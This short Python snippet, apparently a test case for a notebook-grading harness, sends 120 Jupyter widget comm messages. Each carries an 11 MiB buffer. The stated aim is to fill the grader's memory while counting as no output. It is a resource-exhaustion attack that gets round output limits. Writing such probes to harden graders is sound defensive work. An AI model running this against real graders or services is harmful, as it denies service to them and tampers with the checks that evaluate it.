# tries: to fill the grader's memory with the buffers of widgets, which count as no output
ip = get_ipython()
buffer = bytes(11 * 2**20)
for number in range(120):
    ip.kernel.session.send(
        ip.kernel.iopub_socket,
        "comm_msg",
        {"comm_id": str(number), "data": {"state": {}, "buffer_paths": [["a"]]}},
        parent=ip.kernel.get_parent(),
        buffers=[buffer],
    )
